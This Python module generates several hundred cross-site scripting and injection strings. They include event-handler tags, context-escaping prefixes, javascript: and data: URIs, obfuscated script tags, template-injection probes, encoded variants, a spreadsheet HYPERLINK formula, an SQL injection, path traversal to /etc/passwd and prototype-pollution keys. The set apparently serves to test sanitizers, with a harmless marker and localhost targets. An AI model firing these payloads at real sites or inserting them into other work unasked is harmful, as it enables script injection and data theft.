"""A few hundred texts that would do something if a page took them for more than text."""

from __future__ import annotations

from itertools import product

MARK = "window.ran=1"  # what each would leave behind
EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "marquee",
    "select autofocus",
)
BREAKS = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</svg>",
    "{{",
    "\\",
)
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    " javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
)


def payloads(port: int = 9) -> list[str]:
    """All of them, each once."""
    run = MARK
    found = [f"<{tag} {event}={run}>" for tag, event in product(TAGS, EVENTS)]
    found += [f"{end}<script>{run}</script>" for end in BREAKS]
    found += [f"{end}<img src=x onerror={run}>" for end in BREAKS]
    found += [f'{end} onmouseover="{run}" x="' for end in BREAKS]
    found += [f'<a href="{scheme.format(run)}">x</a>' for scheme in SCHEMES]
    found += [f'<iframe src="{scheme.format(run)}"></iframe>' for scheme in SCHEMES]
    found += [f'<form action="{scheme.format(run)}"><button>x</button></form>' for scheme in SCHEMES]
    found += [
        f"<{tag}>{run}</{tag}>"
        for tag in ("script", "SCRIPT", "script/x", "scr<script>ipt", "script\x00", "svg><script")
    ]
    found += [
        "<link rel=stylesheet href=http://127.0.0.1:9/x.css>", "<style>@import 'http://127.0.0.1:9/x.css'</style>",
        "<style>body{display:none}</style>", "<img src=http://127.0.0.1:9/x.png>", "<img srcset=http://127.0.0.1:9/y.png>",
        "<object data=http://127.0.0.1:9/x></object>", "<embed src=http://127.0.0.1:9/x>", "<base href=http://127.0.0.1:9/>",
        "<script src=http://127.0.0.1:9/x.js></script>", "<script type=module>window.ran=1</script>",
        f"<svg><animate onbegin={run} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg onload={run}>'/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={run}>", f"<template><script>{run}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={run}>'>", f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"<video><source onerror={run}></video>", f"<audio src=x onerror={run}>", f"<!--><script>{run}</script>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "{{ 7*7 }}", "{% print(7*7) %}",
        "${window.ran=1}", "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\u003cscript\u003e", "＜script＞",
        "\u202ereversed", "a\x00b", "=HYPERLINK(\"http://127.0.0.1:9\")", "__proto__", "constructor",
        "</script><script type=\"application/json\" id=\"data\">{}</script>", "' or 1=1 --", "../../etc/passwd", "<plaintext>",
    ]  # fmt: skip
    found += [text.replace("<", f"{odd}<") for odd in ("\x0b", "\u2028", "\ufeff") for text in found[:12]]
    return [text.replace("127.0.0.1:9", f"127.0.0.1:{port}") for text in dict.fromkeys(found)]
